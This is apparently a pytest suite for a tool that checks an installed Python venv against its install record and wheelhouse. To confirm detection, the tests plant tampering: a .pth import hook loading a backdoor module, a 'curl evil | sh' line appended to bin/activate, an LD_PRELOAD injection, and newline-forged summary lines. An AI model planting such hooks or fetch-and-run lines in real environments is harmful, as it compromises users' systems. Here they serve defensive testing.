"""`verify --installed`: a venv against what `install` recorded, on a venv made of files."""

from __future__ import annotations

import base64
import hashlib
import json
import py_compile
import sys
from pathlib import Path

import pytest

from sparkbuild.errors import VerifyError
from sparkbuild.node.fingerprint import RECORD_NAME, fingerprint, record_installation
from sparkbuild.node.installed import INSTALLING_MARK
from sparkbuild.node.installed_check import verify_installed
from sparkbuild.node.profile import (
    ACTIVATE_LINE,
    NodeProfile,
    ProfileEntry,
    write_profile,
)
from support.wheels import zipped_wheel

MANIFEST = {"schema": 1, "wheels": [
    {"file": "demo-1.0-py3-none-any.whl", "name": "demo", "version": "1.0", "sha256": "0" * 64,
     "size": 1, "role": "built"}]}


def _digest(data: bytes) -> str:
    raw = hashlib.sha256(data).digest()
    return "sha256=" + base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def _install_dist(site: Path, name: str, version: str, files: dict[str, bytes]) -> None:
    info = site / f"{name}-{version}.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
    rows = [f"{info.name}/METADATA,{_digest((info / 'METADATA').read_bytes())},"]
    for relative, data in files.items():
        target = site / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        rows.append(f"{relative},{_digest(data)},{len(data)}")
    rows.append(f"{info.name}/RECORD,,")
    (info / "RECORD").write_text("\n".join(rows) + "\n")


SITE = "lib/python3.12/site-packages"
HOME = Path(sys.executable).parent


@pytest.fixture
def venv(tmp_path: Path) -> Path:
    """A venv as ``python -m venv`` lays it out (the interpreter links, pyvenv.cfg,
    activate), with demo and pip installed."""
    venv = tmp_path / "venv"
    site = venv / SITE
    _install_dist(site, "demo", "1.0", {"demo/__init__.py": b"VALUE = 1\n",
                                        "demo/_C.so": b"\x7fELF fake"})
    _install_dist(site, "pip", "25.0", {"pip/__init__.py": b""})
    (venv / "lib64").symlink_to("lib")
    (venv / "pyvenv.cfg").write_text(f"home = {HOME}\ninclude-system-site-packages = false\n")
    (venv / "bin").mkdir()
    (venv / "bin" / "python3").symlink_to(HOME / "python3")
    (venv / "bin" / "python").symlink_to("python3")
    (venv / "bin" / "activate").write_text(f"VIRTUAL_ENV='{venv}'\n")
    return venv


def _manifest(tmp_path: Path) -> bytes:
    data = json.dumps(MANIFEST, indent=2).encode()
    (tmp_path / "manifest.json").write_bytes(data)
    return data


def test_fresh_install_passes_and_prints_the_fingerprint(venv: Path, tmp_path: Path) -> None:
    manifest = _manifest(tmp_path)
    recorded = record_installation(venv, manifest, "http://127.0.0.1:8000/wh/")
    canonical = json.dumps(MANIFEST, sort_keys=True, separators=(",", ":")).encode()
    assert recorded.fingerprint == "sha256:" + hashlib.sha256(canonical).hexdigest()
    result = verify_installed(venv)
    assert result.error is None, result.summary()
    assert result.fingerprint == fingerprint(manifest)
    assert f"wheelhouse fingerprint: {recorded.fingerprint}" in result.summary()
    assert result.files_checked == 5 and result.distributions == 2


def test_a_changed_file_is_named(venv: Path, tmp_path: Path) -> None:
    record_installation(venv, _manifest(tmp_path), "somewhere")
    changed = venv / "lib" / "python3.12" / "site-packages" / "demo" / "__init__.py"
    changed.write_bytes(b"VALUE = 2\n")
    result = verify_installed(venv)
    assert [m.file for m in result.mismatches] == [
        "lib/python3.12/site-packages/demo/__init__.py"]
    assert isinstance(result.error, VerifyError)
    assert "demo/__init__.py" in result.error.what


def test_a_removed_file_a_new_dist_and_a_patched_record(venv: Path, tmp_path: Path) -> None:
    record_installation(venv, _manifest(tmp_path), "somewhere")
    site = venv / "lib" / "python3.12" / "site-packages"
    (site / "demo" / "_C.so").unlink()
    _install_dist(site, "intruder", "0.1", {"intruder.py": b""})
    record = site / "pip-25.0.dist-info" / "RECORD"
    record.write_text(record.read_text() + "pip/extra.py,,\n")
    problems = {m.file: m.problem for m in verify_installed(venv).mismatches}
    assert problems["lib/python3.12/site-packages/demo/_C.so"] == "missing"
    assert "not from it" in problems["lib/python3.12/site-packages/intruder-0.1.dist-info"]
    assert "RECORD changed" in problems["lib/python3.12/site-packages/pip-25.0.dist-info/RECORD"]


def test_uninstalled_and_tampered_record(venv: Path, tmp_path: Path) -> None:
    record_installation(venv, _manifest(tmp_path), "somewhere")
    data = json.loads((venv / RECORD_NAME).read_text())
    data["manifest"] = data["manifest"].replace('"1.0"', '"1.1"')
    (venv / RECORD_NAME).write_text(json.dumps(data))
    problems = {m.file: m.problem for m in verify_installed(venv).mismatches}
    assert "does not hash" in problems[RECORD_NAME]
    assert "not installed at its version" in problems["demo-1.0-py3-none-any.whl"]


def _wheelhouse(root: Path, files: dict[str, bytes]) -> tuple[Path, bytes]:
    """A wheelhouse that passes verify: one demo wheel of ``files``, its lock, a manifest."""
    root.mkdir()
    wheel = root / "demo-1.0-py3-none-any.whl"
    meta = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
    wheel.write_bytes(zipped_wheel({**files, "demo-1.0.dist-info/METADATA": meta}))
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    lock = root / "requirements.lock"
    lock.write_text(f"demo==1.0 --hash=sha256:{digest}\n")
    manifest = {"schema": 1, "target": {"cuda_archs": ["12.1a"]}, "wheels": [
        {"file": wheel.name, "name": "demo", "version": "1.0", "sha256": digest,
         "size": wheel.stat().st_size, "role": "built"}],
        "files": {lock.name: hashlib.sha256(lock.read_bytes()).hexdigest()}}
    data = json.dumps(manifest, indent=2).encode()
    (root / "manifest.json").write_bytes(data)
    return root, data


INSTALLED = {"demo/__init__.py": b"VALUE = 1\n", "demo/_C.so": b"\x7fELF fake"}


def test_compared_with_the_wheels_of_the_wheelhouse(venv: Path, tmp_path: Path) -> None:
    wheelhouse, manifest = _wheelhouse(tmp_path / "wh", INSTALLED)
    record_installation(venv, manifest, str(wheelhouse))
    result = verify_installed(venv)
    assert result.error is None, result.mismatches
    assert result.compared_with == str(wheelhouse)
    other = tmp_path / "other"
    other.mkdir()
    (other / "manifest.json").write_text("{}")
    problems = verify_installed(venv, other).mismatches
    assert "fails verify" in problems[-1].problem


def test_installed_bytes_differ_from_the_wheels(venv: Path, tmp_path: Path) -> None:
    """The venv's RECORD agrees with its files; the wheel does not: the wheel decides."""
    wheelhouse, manifest = _wheelhouse(tmp_path / "wh", {**INSTALLED,
                                                         "demo/__init__.py": b"VALUE = 3\n"})
    record_installation(venv, manifest, str(wheelhouse))
    result = verify_installed(venv)
    assert [m.file for m in result.mismatches] == [
        "lib/python3.12/site-packages/demo/__init__.py"]
    assert "differ from its wheel demo-1.0-py3-none-any.whl" in result.mismatches[0].problem


def test_a_file_no_wheel_has_fails_even_when_record_lists_it(venv: Path, tmp_path: Path
                                                             ) -> None:
    """A venv installed from a tampered wheel (one file added with its RECORD line) fails
    against itself and against the genuine wheelhouse."""
    wheelhouse, manifest = _wheelhouse(tmp_path / "wh", INSTALLED)
    site = venv / "lib" / "python3.12" / "site-packages"
    (site / "demo" / "backdoor.py").write_text("print('hi')\n")
    record = site / "demo-1.0.dist-info" / "RECORD"
    record.write_text(record.read_text() + f"demo/backdoor.py,{_digest(b'print(1)')},8\n")
    (site / "demo" / "backdoor.py").write_bytes(b"print(1)")
    (site / "sitecustomize.pth").write_text("import demo.backdoor\n")
    record_installation(venv, manifest, str(wheelhouse))  # as the old install recorded it
    alone = verify_installed(venv, tmp_path / "nowhere")
    # its own RECORD says nothing against backdoor.py (not enough); the .pth no RECORD lists
    assert [(m.file, m.problem) for m in alone.mismatches] == [
        (f"{SITE}/sitecustomize.pth", "no RECORD lists this file")]
    result = verify_installed(venv)
    assert sorted(m.file for m in result.mismatches) == [
        "lib/python3.12/site-packages/demo/backdoor.py",
        "lib/python3.12/site-packages/sitecustomize.pth"]
    assert all(m.problem == "no wheel of the wheelhouse has this file"
               for m in result.mismatches)


def test_the_wheelhouse_compared_with_is_verified_first(venv: Path, tmp_path: Path) -> None:
    wheelhouse, manifest = _wheelhouse(tmp_path / "wh", INSTALLED)
    record_installation(venv, manifest, str(wheelhouse))
    (wheelhouse / "requirements.lock").write_text("demo==1.0 --hash=sha256:" + "1" * 64 + "\n")
    result = verify_installed(venv)
    assert result.compared_with is None
    assert [m.file for m in result.mismatches] == [str(wheelhouse)]
    assert "requirements.lock" in result.mismatches[0].problem


def test_a_venv_not_made_by_install(venv: Path) -> None:
    with pytest.raises(VerifyError) as caught:
        verify_installed(venv)
    assert RECORD_NAME in caught.value.what


# -- what runs, with or without the wheelhouse ------------------------------------------


def _installed(venv: Path, tmp_path: Path) -> Path:
    """``venv`` as install leaves it: the profile written, its bytecode compiled, the
    installation recorded (no wheelhouse at hand); returns site-packages."""
    site = venv / SITE
    py_compile.compile(str(site / "demo" / "__init__.py"), doraise=True)
    profile = write_profile(NodeProfile([ProfileEntry("VLLM_USE_DEEP_GEMM", "0", "why", "me"),
                                         ProfileEntry("FLASHINFER_WORKSPACE_BASE",
                                                      str(venv / "var" / "flashinfer"), "w",
                                                      "me")], []), venv)
    manifest = {**MANIFEST, "build": {"node_profile": [
        {"key": "VLLM_USE_DEEP_GEMM", "value": "0", "reason": "why", "source": "me"},
        {"key": "FLASHINFER_WORKSPACE_BASE", "value": "<found on the node>", "reason": "w",
         "source": "me"}]}}
    record_installation(venv, json.dumps(manifest).encode(), str(tmp_path / "gone"),
                        [e.to_dict() for e in profile.entries])
    return site


def _problems(venv: Path) -> dict[str, str]:
    return {m.file: m.problem for m in verify_installed(venv).mismatches}


def test_a_fresh_install_with_its_own_files_passes(venv: Path, tmp_path: Path) -> None:
    _installed(venv, tmp_path)
    assert ACTIVATE_LINE in (venv / "bin" / "activate").read_text()
    result = verify_installed(venv)
    assert result.error is None, result.summary()


@pytest.mark.parametrize("name", ["sitecustomize.py", "usercustomize.py", "zz-evil.pth",
                                  "demo/extra.py"])
def test_a_file_no_record_lists_is_named_without_the_wheelhouse(
        venv: Path, tmp_path: Path, name: str) -> None:
    site = _installed(venv, tmp_path)
    (site / name).write_text("import os\n")
    assert _problems(venv) == {f"{SITE}/{name}": "no RECORD lists this file"}


def test_a_file_dropped_into_bin_is_named(venv: Path, tmp_path: Path) -> None:
    _installed(venv, tmp_path)
    (venv / "bin" / "vllm-helper").write_text("#!/bin/sh\n")
    assert _problems(venv) == {"bin/vllm-helper": "no RECORD lists this file"}


def test_bytecode_that_is_not_its_source_is_named(venv: Path, tmp_path: Path) -> None:
    site = _installed(venv, tmp_path)
    source = site / "demo" / "__init__.py"
    (pyc,) = (site / "demo" / "__pycache__").glob("__init__.*.pyc")
    other = tmp_path / "other.py"
    other.write_text("VALUE = 666\n")
    py_compile.compile(str(other), cfile=str(pyc), dfile=str(source), doraise=True)
    (problem,) = _problems(venv).items()
    assert problem[0] == pyc.relative_to(venv).as_posix()
    assert "not its checked source __init__.py compiled" in problem[1]


def test_bytecode_written_after_the_install_from_the_source_passes(venv: Path,
                                                                   tmp_path: Path) -> None:
    """The interpreter compiles again after a copy that lost the mtimes: what compileall
    gives from the checked source passes, whatever the install recorded."""
    site = _installed(venv, tmp_path)
    (pyc,) = (site / "demo" / "__pycache__").glob("__init__.*.pyc")
    pyc.unlink()
    source = site / "demo" / "__init__.py"
    py_compile.compile(str(source), cfile=str(pyc), dfile=str(source), doraise=True,
                       optimize=0, invalidation_mode=py_compile.PycInvalidationMode.CHECKED_HASH)
    assert _problems(venv) == {}
    opt = pyc.with_name(pyc.name.replace(".pyc", ".opt-1.pyc"))
    py_compile.compile(str(source), cfile=str(opt), dfile=str(source), doraise=True, optimize=1)
    assert _problems(venv) == {}


def test_bytecode_of_a_module_no_record_lists_is_named(venv: Path, tmp_path: Path) -> None:
    site = _installed(venv, tmp_path)
    pyc = site / "__pycache__" / "sitecustomize.cpython-311.pyc"
    pyc.parent.mkdir()
    pyc.write_bytes(b"not bytecode")
    assert _problems(venv) == {f"{SITE}/__pycache__/sitecustomize.cpython-311.pyc":
                               "no RECORD lists this file"}


def test_pyvenv_cfg_that_takes_the_systems_packages(venv: Path, tmp_path: Path) -> None:
    _installed(venv, tmp_path)
    cfg = venv / "pyvenv.cfg"
    cfg.write_text(cfg.read_text().replace("= false", "= true"))
    assert _problems(venv) == {"pyvenv.cfg": "include-system-site-packages is not false: the "
                               "system's packages are on the venv's path; changed since the "
                               "install"}


def test_an_interpreter_link_to_a_wrapper_is_named(venv: Path, tmp_path: Path) -> None:
    _installed(venv, tmp_path)
    wrapper = tmp_path / "wrapper"
    wrapper.write_text("#!/bin/sh\nexec python3 \"$@\"\n")
    (venv / "bin" / "python3").unlink()
    (venv / "bin" / "python3").symlink_to(wrapper)
    problems = _problems(venv)
    assert problems.keys() == {"bin/python", "bin/python3"}
    assert problems["bin/python3"].startswith(f"ends at {wrapper}, not at an interpreter in")
    assert problems["bin/python3"].endswith("; changed since the install")
    (venv / "bin" / "python3").unlink()
    (venv / "bin" / "python3").write_text("#!/bin/sh\n")
    assert _problems(venv)["bin/python3"].startswith("not a symbolic link to the interpreter")


def test_activate_and_the_profile_files_are_the_installs(venv: Path, tmp_path: Path) -> None:
    _installed(venv, tmp_path)
    activate = venv / "bin" / "activate"
    activate.write_text(activate.read_text() + "curl evil | sh\n")
    (venv / "bin" / "activate.fish").write_text("")
    env_file = venv / "sparkbuild" / "node.env"
    env_file.write_text(env_file.read_text() + "LD_PRELOAD=/tmp/x.so\n")
    profile = venv / "sparkbuild" / "profile.sh"
    profile.write_text(profile.read_text().replace("DEEP_GEMM=0", "DEEP_GEMM=1"))
    assert _problems(venv) == {
        "bin/activate": "changed since the install",
        "bin/activate.fish": "added since the install",
        "sparkbuild/node.env": "changed since the install; not the profile the install wrote",
        "sparkbuild/profile.sh": "changed since the install; not the profile the install "
                                 "wrote"}


def test_the_recorded_profile_is_the_manifests(venv: Path, tmp_path: Path) -> None:
    """A rewritten record (profile and file digests) still must match the manifest."""
    _installed(venv, tmp_path)
    record = json.loads((venv / RECORD_NAME).read_text())
    record["profile"][0]["value"] = "1"
    record["profile"].append({"key": "LD_PRELOAD", "value": "/tmp/x.so"})
    (venv / RECORD_NAME).write_text(json.dumps(record))
    problems = _problems(venv)
    assert problems["sparkbuild"] == ("VLLM_USE_DEEP_GEMM is not the manifest's value; "
                                      "LD_PRELOAD is not in the manifest's profile")


def test_a_symlinked_site_packages_is_named_not_followed(venv: Path, tmp_path: Path) -> None:
    _installed(venv, tmp_path)
    site = venv / SITE
    elsewhere = tmp_path / "elsewhere"
    site.rename(elsewhere)
    site.symlink_to(elsewhere, target_is_directory=True)
    problems = _problems(venv)
    assert problems[SITE] == f"a symbolic link (to {elsewhere}): not followed"
    assert "demo==1.0" in problems  # its distributions are not read through the link


def test_a_symlinked_bin_is_named_not_followed(venv: Path, tmp_path: Path) -> None:
    """A bin/ moved elsewhere behind a link: the same interpreter links and activate, and
    a script added there, which a walk of the link would not see."""
    _installed(venv, tmp_path)
    elsewhere = tmp_path / "elsewhere-bin"
    (venv / "bin").rename(elsewhere)
    (venv / "bin").symlink_to(elsewhere, target_is_directory=True)
    (elsewhere / "vllm").write_text("#!/bin/sh\n")
    assert _problems(venv)["bin"] == f"a symbolic link (to {elsewhere}): not followed"


def test_a_symlink_inside_site_packages_is_named(venv: Path, tmp_path: Path) -> None:
    site = _installed(venv, tmp_path)
    (site / "linked").symlink_to(tmp_path, target_is_directory=True)
    assert _problems(venv) == {f"{SITE}/linked": f"a symbolic link (to {tmp_path}): not "
                                                 "followed"}


def test_an_install_that_did_not_finish_is_named(venv: Path, tmp_path: Path) -> None:
    _installed(venv, tmp_path)
    (venv / INSTALLING_MARK).write_text("existing\n")
    assert "did not finish" in _problems(venv)[INSTALLING_MARK]


def test_pep440_equal_spellings_agree(venv: Path, tmp_path: Path) -> None:
    """The manifest's 1.0.0 is the installed 1.0, as verify reads it."""
    manifest = json.loads(json.dumps(MANIFEST).replace('"1.0"', '"1.0.0"'))
    record_installation(venv, json.dumps(manifest).encode(), "somewhere")
    assert verify_installed(venv).error is None


def test_a_name_with_a_newline_is_quoted_in_the_summary(venv: Path, tmp_path: Path) -> None:
    site = _installed(venv, tmp_path)
    (site / "x\n  MISMATCH forged").write_text("")
    result = verify_installed(venv)
    lines = result.summary()
    assert f'  MISMATCH "{SITE}/x\\n  MISMATCH forged": no RECORD lists this file' in lines
    assert not any(line.startswith("  MISMATCH forged") for line in lines)
    assert result.error is not None and "\n" not in result.error.what


@pytest.mark.parametrize("record", ["[]", '{"distributions": []}', "not json",
                                    '{"fingerprint": 1, "wheelhouse": "w", "manifest": "{}", '
                                    '"distributions": {}}'])
def test_a_record_of_the_wrong_shape_is_a_named_error(venv: Path, record: str) -> None:
    (venv / RECORD_NAME).write_text(record)
    with pytest.raises(VerifyError, match=RECORD_NAME):
        verify_installed(venv)


def test_a_recorded_fingerprint_or_origin_forges_no_line(venv: Path, tmp_path: Path) -> None:
    """The install record is the venv's own file: a newline in what it says is printed
    escaped, so it cannot add an ``OK`` line under the verdict."""
    _installed(venv, tmp_path)
    data = json.loads((venv / RECORD_NAME).read_text())
    forged = "\nverify --installed V: OK (0 distributions, 0 files re-hashed)"
    data.update(fingerprint=data["fingerprint"] + forged, wheelhouse="http://h/" + forged)
    (venv / RECORD_NAME).write_text(json.dumps(data))
    lines = "\n".join(verify_installed(venv).summary()).splitlines()
    assert [line for line in lines if line.startswith("verify --installed")] == lines[:1]
    assert "FAILED" in lines[0]  # the recorded manifest no longer hashes to the fingerprint


def test_the_stand_ins_of_the_recorded_wheelhouse_are_named(venv: Path, tmp_path: Path) -> None:
    """A source built from another commit than the tree's pin stays visible on the node."""
    stand_in = {"url": "https://github.com/vllm-project/flash-attention.git",
                "pinned": "06bdd47c" * 5, "used": "617264c1" * 5, "reason": "no \x1b[2J mirror"}
    manifest = {**MANIFEST, "build": {"dependencies": [
        {"name": "cutlass", "ref": "v4"}, {"name": "vllm-flash-attn", "stand_in": stand_in}]}}
    record_installation(venv, json.dumps(manifest).encode(), "somewhere")
    result = verify_installed(venv)
    assert result.to_dict()["stand_ins"] == [{"name": "vllm-flash-attn", **stand_in}]
    (line,) = [line for line in result.summary() if "stand-in:" in line]
    assert line.startswith(f"  stand-in: vllm-flash-attn built from {'617264c1' * 5}, not the "
                           f"tree's pin {'06bdd47c' * 5}")
    assert "\x1b" not in line
    plain = tmp_path / "plain"
    plain.mkdir()
    record_installation(venv, _manifest(plain), "somewhere")
    assert verify_installed(venv).stand_ins == []


UV_CACHE = b'{"timestamp":{"secs_since_epoch":1,"nanos_since_epoch":2},"commit":null,' \
           b'"tags":null,"env":{},"directories":{}}'


def _by(venv: Path, installer: str, extra: dict[str, bytes]) -> Path:
    """demo's dist-info as ``installer`` leaves it: INSTALLER and ``extra``, in RECORD."""
    info = venv / SITE / "demo-1.0.dist-info"
    files = {"INSTALLER": installer.encode() + b"\n", **extra}
    rows = []
    for name, data in files.items():
        (info / name).write_bytes(data)
        rows.append(f"{info.name}/{name},{_digest(data)},{len(data)}\n")
    record = info / "RECORD"
    record.write_text(record.read_text() + "".join(rows))
    return info


def test_uvs_own_file_is_owned_where_uv_installed(venv: Path, tmp_path: Path) -> None:
    """After ``install --from pylock``: uv's INSTALLER and uv_cache.json, compared with the
    wheelhouse's wheels."""
    wheelhouse, manifest = _wheelhouse(tmp_path / "wh", INSTALLED)
    _by(venv, "uv", {"uv_cache.json": UV_CACHE})
    record_installation(venv, manifest, str(wheelhouse))
    result = verify_installed(venv)
    assert result.error is None, result.mismatches


@pytest.mark.parametrize(("installer", "data", "said"), [
    ("pip", UV_CACHE, "uv_cache.json (no wheel of the wheelhouse has this file)"),
    ("uv", b'{"run": "x"}', "not the record uv writes"),
    ("evil", UV_CACHE, "installed by 'evil', which sparkbuild does not run"),
])
def test_uvs_own_file_only_as_uv_writes_it(venv: Path, tmp_path: Path, installer: str,
                                           data: bytes, said: str) -> None:
    wheelhouse, manifest = _wheelhouse(tmp_path / "wh", INSTALLED)
    _by(venv, installer, {"uv_cache.json": data})
    record_installation(venv, manifest, str(wheelhouse))
    problems = " ".join(m.describe() for m in verify_installed(venv).mismatches)
    assert said in problems
